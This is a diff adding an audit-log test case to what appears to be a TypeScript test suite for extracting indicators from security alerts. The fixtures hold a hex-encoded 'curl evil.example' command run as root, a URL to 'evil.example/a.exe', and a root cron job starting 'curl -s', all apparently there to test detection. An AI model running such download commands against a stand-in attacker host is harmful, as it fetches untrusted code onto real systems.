@@ -51,6 +51,15 @@ const CASES: Readonly<
     "url",
     "http://evil.example/a.exe",
   ],
+  audit_record: [
+    alert(["audit", "audit_command"], {
+      decoder: { name: "auditd" },
+      full_log: 'type=USER_CMD msg=audit(1:2): pid=1 uid=0 msg=\'cwd="/" ' +
+        "cmd=6375726C206576696C2E6578616D706C65 terminal=pts/0 res=success'",
+    }),
+    "host",
+    "evil.example",
+  ],
   commands: [
     alert(["syslog", "cron"], {
       full_log: "Nov 25 10:00:01 web01 CRON[4711]: (root) CMD (curl -s " +
